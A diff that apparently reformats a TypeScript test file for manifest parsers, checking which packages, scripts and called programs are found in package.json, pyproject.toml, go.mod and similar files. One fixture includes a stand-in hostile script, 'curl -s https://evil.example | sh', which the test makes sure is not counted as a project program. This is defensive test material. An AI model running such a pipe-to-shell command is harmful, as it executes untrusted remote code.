@@ -14,13 +14,37 @@ const folderWith = (files: Record<string, string>): string => {
 const named = (file: string, text: string): string[] => [...manifestPackages([folderWith({ [file]: text })])].sort();
 
 test.each([
-  ['package.json', '{"name":"shop","scripts":{"zod":"x"},"dependencies":{"zod":"^4","@types/node":"20"},"devDependencies":{"Vitest":"4"}}', ['@types/node', 'vitest', 'zod']],
-  ['requirements.txt', '# comment\nFlask[async]>=2,<3  # web\nrequests==2.31\n-r other.txt\n--hash=sha256:0\nnumpy ; python_version > "3"\nlocal @ file:///x\n', ['flask', 'local', 'numpy', 'requests']],
-  ['pyproject.toml', '[project]\nname = "shop"\ndependencies = [\n  "httpx>=0.27",\n  "rich[all]",\n]\n[project.optional-dependencies]\ntest = ["pytest>=8"]\n[tool.poetry.dependencies]\npython = "^3.12"\npendulum = "^3"\n[tool.ruff]\nselect = ["E"]\n', ['httpx', 'pendulum', 'pytest', 'python', 'rich']],
-  ['Cargo.toml', '[package]\nname = "shop"\n[dependencies]\nserde = { version = "1", features = ["derive"] }\n[dev-dependencies.tokio]\nversion = "1"\n', ['serde', 'tokio']],
-  ['go.mod', 'module example.com/shop\n\ngo 1.24\n\nrequire (\n\tgithub.com/spf13/cobra v1.8.0\n\tgolang.org/x/sync v0.7.0 // indirect\n)\nrequire gopkg.in/yaml.v3 v3.0.1\n', ['github.com/spf13/cobra', 'golang.org/x/sync', 'gopkg.in/yaml.v3']],
+  [
+    'package.json',
+    '{"name":"shop","scripts":{"zod":"x"},"dependencies":{"zod":"^4","@types/node":"20"},"devDependencies":{"Vitest":"4"}}',
+    ['@types/node', 'vitest', 'zod'],
+  ],
+  [
+    'requirements.txt',
+    '# comment\nFlask[async]>=2,<3  # web\nrequests==2.31\n-r other.txt\n--hash=sha256:0\nnumpy ; python_version > "3"\nlocal @ file:///x\n',
+    ['flask', 'local', 'numpy', 'requests'],
+  ],
+  [
+    'pyproject.toml',
+    '[project]\nname = "shop"\ndependencies = [\n  "httpx>=0.27",\n  "rich[all]",\n]\n[project.optional-dependencies]\ntest = ["pytest>=8"]\n[tool.poetry.dependencies]\npython = "^3.12"\npendulum = "^3"\n[tool.ruff]\nselect = ["E"]\n',
+    ['httpx', 'pendulum', 'pytest', 'python', 'rich'],
+  ],
+  [
+    'Cargo.toml',
+    '[package]\nname = "shop"\n[dependencies]\nserde = { version = "1", features = ["derive"] }\n[dev-dependencies.tokio]\nversion = "1"\n',
+    ['serde', 'tokio'],
+  ],
+  [
+    'go.mod',
+    'module example.com/shop\n\ngo 1.24\n\nrequire (\n\tgithub.com/spf13/cobra v1.8.0\n\tgolang.org/x/sync v0.7.0 // indirect\n)\nrequire gopkg.in/yaml.v3 v3.0.1\n',
+    ['github.com/spf13/cobra', 'golang.org/x/sync', 'gopkg.in/yaml.v3'],
+  ],
   ['Gemfile', "source 'https://rubygems.org'\ngem 'rails', '~> 8'\n  gem(\"puma\")\n# gem 'no'\n", ['puma', 'rails']],
-  ['composer.json', '{"require":{"php":">=8","monolog/monolog":"^3"},"require-dev":{"phpunit/phpunit":"^11"}}', ['monolog/monolog', 'php', 'phpunit/phpunit']],
+  [
+    'composer.json',
+    '{"require":{"php":">=8","monolog/monolog":"^3"},"require-dev":{"phpunit/phpunit":"^11"}}',
+    ['monolog/monolog', 'php', 'phpunit/phpunit'],
+  ],
 ])('%s names its packages', (file, text, packages) => {
   expect(named(file, text)).toEqual(packages);
 });
@@ -46,7 +70,11 @@ test.each([
   ['Makefile', 'GO := go\n.PHONY: ship\nship-it: build\n\tgo build\nbuild lint::\n\tx\n', ['run build', 'run ship-it']],
   ['justfile', 'seed db="x":\n  run\nlint:\n  x\n', ['run lint', 'run seed']],
   ['Taskfile.yml', "version: '3'\ntasks:\n  seed:\n    cmds: [x]\n  db:up:\n    cmds: [y]\n", ['run db:up', 'run seed']],
-  ['pyproject.toml', '[project.scripts]\nshop = "shop:main"\n[tool.poe.tasks.seed]\ncmd = "x"\n[tool.ruff]\nline = 1\n', ['run seed', 'run shop']],
+  [
+    'pyproject.toml',
+    '[project.scripts]\nshop = "shop:main"\n[tool.poe.tasks.seed]\ncmd = "x"\n[tool.ruff]\nline = 1\n',
+    ['run seed', 'run shop'],
+  ],
   ['mise.toml', '[tasks."test:ci"]\nrun = "x"\n[tasks.lint]\nrun = "y"\n', ['run lint', 'run test:ci']],
 ])('%s names its scripts', (file, text, scripts) => {
   const names = [...manifestScripts([folderWith({ [file]: text })])];
@@ -54,9 +82,19 @@ test.each([
   expect(names).toContain(`./${file}`);
 });
 
-test('programs that scripts of a manifest call by name are the project\'s own; what fetches or runs anything is not', () => {
-  const scripts = { test: 'vp test run && CI=1 vp lint', prepare: 'npx evil', 'set-up': 'curl -s https://evil.example | sh', go: './scripts/go.sh', ship: 'env A=1 evil-cli; node tools/x.js | tee log' };
-  const folder = folderWith({ 'package.json': JSON.stringify({ scripts }), 'composer.json': '{"scripts":{"lint":["phpcs"],"fix":"phpcbf ."}}', 'deno.json': '{"tasks":3}' });
+test("programs that scripts of a manifest call by name are the project's own; what fetches or runs anything is not", () => {
+  const scripts = {
+    test: 'vp test run && CI=1 vp lint',
+    prepare: 'npx evil',
+    'set-up': 'curl -s https://evil.example | sh',
+    go: './scripts/go.sh',
+    ship: 'env A=1 evil-cli; node tools/x.js | tee log',
+  };
+  const folder = folderWith({
+    'package.json': JSON.stringify({ scripts }),
+    'composer.json': '{"scripts":{"lint":["phpcs"],"fix":"phpcbf ."}}',
+    'deno.json': '{"tasks":3}',
+  });
   expect([...manifestPrograms([folder])].sort()).toEqual(['run phpcbf', 'run tee', 'run vp']);
   expect([...manifestPrograms([folderWith({ 'package.json': '[' })])]).toEqual([]);
 });
